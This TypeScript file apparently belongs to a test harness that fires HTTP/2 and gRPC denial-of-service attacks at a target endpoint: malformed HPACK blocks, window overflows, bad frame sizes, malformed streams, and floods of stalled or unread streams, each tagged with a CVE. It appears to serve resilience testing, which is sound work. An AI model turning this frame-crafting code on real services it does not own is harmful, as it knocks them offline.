/** HTTP/2 that is wrong: one fault ends the connection for good, or the one call it belongs to. */

import { limits } from "../../lib/limits.ts";
import type { AttackClass } from "./attack-class.ts";
import {
  FLAG,
  FRAME,
  frame,
  grpcCall,
  headers,
  hello,
  indexed,
  literal,
  MAX_31,
  ping,
  reset,
  SETTING,
  settings,
  windowUpdate,
} from "./frames.ts";
import type { Range, Wire } from "./range.ts";
import { servedPath } from "./target.ts";

/** Again and again: a connection, its opening, a fault, and whatever is sent on regardless. */
async function faulty(
  range: Range,
  beside: number,
  fault: (nth: number) => readonly Uint8Array[],
  onWire: (wire: Wire) => void = () => {},
): Promise<void> {
  let nth = 0;
  await range.beside(beside, async () => {
    while (await range.pace(1)) {
      const wire = await range.dialTls();
      if (wire === undefined) continue;
      onWire(wire);
      nth += 1;
      await wire.write(hello(), 0);
      for (const part of fault(nth)) if (!(await wire.write(part))) break;
      // What it does not end by then is counted when the attack is over.
      await wire.untilCut(endedWithinMs);
    }
  });
}

const endedWithinMs = 1_000;
const besideCount = 8;

const malformedHpack: AttackClass = {
  id: "hpack-malformed",
  title: "header blocks that cannot be unpacked",
  seen: "CVE-2025-59465",
  layer: "http2",
  cutAfterUnits: 1,
  run: (range) => {
    const blocks = [
      Buffer.from([0x80]),
      indexed(4_000),
      Buffer.from([0xff, 0xff, 0xff, 0xff, 0xff, 0xff]),
      Buffer.from([0x00, 0x85, 0xff, 0xff, 0xff, 0xff, 0xff, 0x00]),
      Buffer.from([0x3f, 0xff, 0xff, 0xff, 0x7f]),
    ];
    return faulty(range, besideCount, (nth) => [headers(1, blocks[nth % blocks.length] ?? Buffer.alloc(0))]);
  },
};

const windowOverflow: AttackClass = {
  id: "window-overflow",
  title: "windows past 2^31-1, connection after connection",
  seen: "CVE-2026-21714",
  layer: "http2",
  cutAfterUnits: 1,
  run: (range) => faulty(range, besideCount, () => [Buffer.concat([windowUpdate(0, MAX_31), windowUpdate(0, MAX_31)])]),
};

const ignoredGoaway: AttackClass = {
  id: "goaway-ignored",
  title: "a protocol error, and going on as if nothing had been said",
  seen: "CVE-2026-48937",
  layer: "http2",
  cutAfterUnits: 1,
  run: (range) => {
    const faults = [frame(FRAME.data, 0, 0, Buffer.alloc(8)), headers(2, grpcCall("/")), windowUpdate(0, 0)];
    const on = Array.from({ length: 200 }, () => Buffer.concat([ping(), settings()]));
    return faulty(range, besideCount, (nth) => [faults[nth % faults.length] ?? ping(), ...on]);
  },
};

const frameSizeError: AttackClass = {
  id: "frame-size-error",
  title: "frames of impossible sizes during and after the end; resets while answers come",
  seen: "CVE-2026-27135, CVE-2026-56848",
  layer: "http2",
  cutAfterUnits: 1,
  run: (range) => {
    const call = grpcCall(servedPath(range.endpoint));
    const calls = [1, 3].map((stream) => headers(stream, call, FLAG.endHeaders | FLAG.endStream));
    const sizes = [
      frame(FRAME.settings, 0, 0, Buffer.alloc(5)),
      frame(FRAME.ping, 0, 0, Buffer.alloc(7)),
      frame(FRAME.window, 0, 0, Buffer.alloc(3)),
      frame(FRAME.reset, 0, 1, Buffer.alloc(5)),
      frame(FRAME.data, 0, 1, Buffer.alloc(64), 0xff_ff_ff),
    ];
    return faulty(range, besideCount, (nth) => {
      const wrong = sizes[nth % sizes.length] ?? ping();
      const again = [wrong, reset(1), reset(3), wrong, frame(FRAME.goaway, 0, 0, Buffer.alloc(8)), wrong];
      return [Buffer.concat([...calls, ...again])];
    });
  },
};

const malformedStart: AttackClass = {
  id: "malformed-start",
  title: "streams that are wrong from their first frame, and reset before anybody looked",
  seen: "CVE-2026-48068",
  layer: "http2",
  run: (range) => {
    const call = grpcCall(servedPath(range.endpoint));
    const starts = [
      grpcCall(servedPath(range.endpoint), literal("Upper", "case")),
      grpcCall(servedPath(range.endpoint), literal("connection", "close")),
      grpcCall(servedPath(range.endpoint), literal(":late", "pseudo")),
      grpcCall(servedPath(range.endpoint), literal("content-length", "-1")),
      grpcCall(servedPath(range.endpoint), literal("grpc-timeout", "99999999999999S")),
      Buffer.concat([indexed(3), indexed(7)]),
      Buffer.concat([indexed(2), indexed(7), literal(":path", "")]),
      Buffer.concat([literal(":method", "CONNECT"), literal(":authority", "x:1")]),
      call,
    ];
    return faulty(range, besideCount, (nth) => {
      const block = starts[nth % starts.length] ?? call;
      return [
        Buffer.concat([
          headers(1, block),
          reset(1),
          headers(3, block),
          frame(FRAME.data, 0, 3, Buffer.alloc(4)),
          reset(3, 2),
        ]),
      ];
    });
  },
};

type Pairs = readonly (readonly [id: number, value: number])[];

/** As many connections as may stand at once, each with all the streams it may have, and nobody who reads. */
async function hoard(range: Range, stream: (nth: number) => Uint8Array, ...pairs: Pairs): Promise<void> {
  await range.beside(range.bounds.connectionsMaxCount, async () => {
    while (!range.isOver) {
      const wire = await range.dialTls();
      if (wire === undefined) continue;
      wire.stream.pause();
      await wire.write(hello(...pairs), 0);
      for (let nth = 0; nth < hoardedStreams && (await range.pace(1)); nth += 1) {
        if (!(await wire.write(stream(nth)))) break;
      }
      await wire.untilCut();
    }
  });
}

const hoardedStreams = 150;

const retainedHeaders: AttackClass = {
  id: "retained-headers",
  title: "stalled streams with as many headers as may be, window 0",
  seen: "CVE-2026-56846",
  layer: "http2",
  run: (range) => {
    const count = Math.floor(limits.rpcHeaderListMaxBytes / 1_100);
    const filler = Array.from({ length: count }, (_, at) => literal(`x-kept-${at}`, "k".repeat(1_000)));
    const block = grpcCall(servedPath(range.endpoint), ...filler);
    return hoard(range, (nth) => headers(nth * 2 + 1, block), [SETTING.window, 0]);
  },
};

const unreadAnswers: AttackClass = {
  id: "unread-answers",
  title: "calls whose answers nobody reads",
  seen: "CVE-2019-9517",
  layer: "http2",
  run: (range) => {
    const block = grpcCall(servedPath(range.endpoint));
    const message = Buffer.alloc(5);
    return hoard(
      range,
      (nth) => Buffer.concat([headers(nth * 2 + 1, block), frame(FRAME.data, FLAG.endStream, nth * 2 + 1, message)]),
      [SETTING.window, MAX_31],
    );
  },
};

export const http2Faults: readonly AttackClass[] = [
  malformedHpack,
  windowOverflow,
  ignoredGoaway,
  frameSizeError,
  malformedStart,
  retainedHeaders,
  unreadAnswers,
];
